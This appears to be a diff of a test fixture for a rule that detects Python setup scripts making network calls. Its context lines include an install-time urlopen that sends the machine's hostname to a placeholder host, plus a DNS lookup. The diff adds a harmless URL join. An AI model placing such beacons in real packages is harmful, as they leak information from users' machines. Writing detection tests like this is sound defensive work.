@@ -1,4 +1,5 @@
 import socket
+import urllib.parse
 import urllib.request
 
 import setuptools
@@ -9,5 +10,7 @@ urllib.request.urlopen("https://c.example.net/?h=" + socket.gethostname())
 socket.gethostbyname("a.c.example.net")
 # ok: python-setup-talks-to-network
 version = open("VERSION").read()
+# ok: python-setup-talks-to-network
+homepage = urllib.parse.urljoin("https://shop.example.com/", "docs")
 
-setuptools.setup(name="shop", version=version)
+setuptools.setup(name="shop", version=version, url=homepage)
